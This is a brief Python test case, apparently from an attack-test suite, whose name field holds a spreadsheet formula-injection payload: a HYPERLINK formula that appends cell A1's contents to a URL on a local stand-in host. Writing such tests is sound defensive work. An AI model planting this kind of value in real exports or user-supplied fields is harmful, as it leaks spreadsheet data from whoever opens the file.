"""A name that a spreadsheet would execute as a formula."""

from tests.attacks.case import FULL, RIGHT, Case

CASE = Case(
    RIGHT,
    FULL,
    name='=HYPERLINK("http://127.0.0.1/?x="&A1,"click")',
)
